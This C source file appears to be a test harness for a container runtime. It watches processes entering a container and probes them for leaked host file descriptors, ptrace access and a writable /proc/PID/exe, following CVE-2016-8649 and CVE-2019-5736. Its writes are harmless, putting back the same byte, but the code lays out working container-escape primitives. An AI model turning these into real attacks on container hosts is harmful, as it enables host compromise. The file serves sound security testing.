/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Processes that enter the container: between their arrival and their exec they are programs of the
 * host's, with descriptors of the host's. Looking at them, tracing them, and writing to the program
 * that they run, also when they have gone (CVE-2016-8649, CVE-2019-5736).
 */

#include "intruder.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { FDS_TRIED = 40, REOPENINGS = 2000 };

/* A link of /proc/PID, or "" when it may not be read. */
static void read_process_link(pid_t pid, const char *name, char target[static PATH_MAX])
{
	char path[64];
	ssize_t length;

	snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, name);
	length = readlink(path, target, PATH_MAX - 1);
	target[length > 0 ? length : 0] = '\0';
}

/* Whether its program is a file that exists in the container. */
static bool is_ours(pid_t pid)
{
	char program[PATH_MAX];

	read_process_link(pid, "exe", program);
	return program[0] && access(program, F_OK) == 0;
}

/* Written is what stands there already: nothing is broken should it work. */
static void overwrite(pid_t pid)
{
	char path[64], program[PATH_MAX], byte;
	int fd, held;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	read_process_link(pid, "exe", program);
	held = open(path, O_PATH | O_CLOEXEC);
	if (held < 0 || is_ours(pid))
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	/* As long as somebody runs it the kernel says ETXTBSY. */
	for (int i = 0; i < REOPENINGS; i++) {
		fd = open(path, O_RDWR | O_CLOEXEC);
		if (fd >= 0 && pread(fd, &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1)
			printf("OVERWRITTEN %d %s\n", (int)pid, program);
		if (fd >= 0 || errno != ETXTBSY) {
			if (fd >= 0)
				close(fd);
			break;
		}
		usleep(500);
	}
	close(held);
}

/* What leads to a file of the host's: absolute, and not there in here. */
static bool is_foreign(const char *target)
{
	return target[0] == '/' && strncmp(target, "/memfd:", 7) != 0 &&
	       strncmp(target, "/dev/", 5) != 0 && access(target, F_OK) < 0;
}

/* Whether it has another root directory than we. */
static void look_at_root(pid_t pid)
{
	struct stat theirs, ours;
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/root/", (int)pid);
	if (stat(path, &theirs) == 0 && stat("/", &ours) == 0 &&
	    (theirs.st_ino != ours.st_ino || theirs.st_dev != ours.st_dev))
		printf("LOOKED %d root\n", (int)pid);
}

static void look(pid_t pid)
{
	char name[32], target[PATH_MAX];

	look_at_root(pid);

	/* The standard streams are handed over on purpose. */
	for (int i = 3; i < FDS_TRIED; i++) {
		snprintf(name, sizeof(name), "fd/%d", i);
		read_process_link(pid, name, target);
		if (is_foreign(target) && !is_ours(pid))
			printf("LOOKED %d %s %s\n", (int)pid, name, target);
	}
	read_process_link(pid, "cwd", target);
	if (is_foreign(target) && !is_ours(pid))
		printf("LOOKED %d cwd %s\n", (int)pid, target);
}

/* The programs of the container have three descriptors; whoever has more has not executed yet. */
static void steal(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int i = 3; pidfd >= 0 && i < FDS_TRIED; i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (fd < 0)
			continue;
		printf("STOLEN %d %d\n", (int)pid, i);
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void trace(pid_t pid)
{
	int status;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	/* Only where it stands still it is certain what it runs. */
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return;
	if (!is_ours(pid))
		printf("TRACED %d\n", (int)pid);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/* Each newcomer in a process of its own, so that nothing is missed meanwhile. */
static void attack(pid_t pid)
{
	if (is_ours(pid) || fork() != 0)
		return;
	/* One that ends has no program any more, but its descriptors still: it would be taken for
	 * somebody else by the next of us. */
	close_range(STDERR_FILENO + 1, ~0U, 0);
	look(pid);
	steal(pid);
	trace(pid);
	overwrite(pid);
	fflush(stdout);
	_exit(0);
}

int intruder_watch(char *const *arguments)
{
	pid_t known = getpid();
	struct stat status;
	unsigned long seen = 0;

	if (!arguments[0])
		return 2;
	/* New numbers grow; it does not matter that some are our own children's. */
	while (stat(arguments[0], &status) < 0) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;
		pid_t highest = known;

		while (processes && (entry = readdir(processes))) {
			pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);

			if (!isdigit((unsigned char)entry->d_name[0]) || pid <= known)
				continue;
			highest = pid > highest ? pid : highest;
			seen++;
			attack(pid);
		}
		if (processes)
			closedir(processes);
		known = highest;
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
	while (wait(NULL) > 0)
		;
	printf("seen %lu\n", seen);
	return 0;
}

int intruder_one(char *const *arguments)
{
	pid_t pid = arguments[0] ? (pid_t)strtol(arguments[0], NULL, 10) : 0;

	if (pid <= 0)
		return 2;
	look(pid);
	steal(pid);
	trace(pid);
	overwrite(pid);
	printf("done\n");
	return 0;
}

int intruder_open(char *const *arguments)
{
	char name[32], target[PATH_MAX];

	(void)arguments;
	for (int i = 3; i < 1024; i++) {
		snprintf(name, sizeof(name), "fd/%d", i);
		read_process_link(getpid(), name, target);
		if (target[0])
			printf("%d %s\n", i, target);
	}
	printf("cwd %s\n", getcwd(target, sizeof(target)) ? target : "?");
	return 0;
}
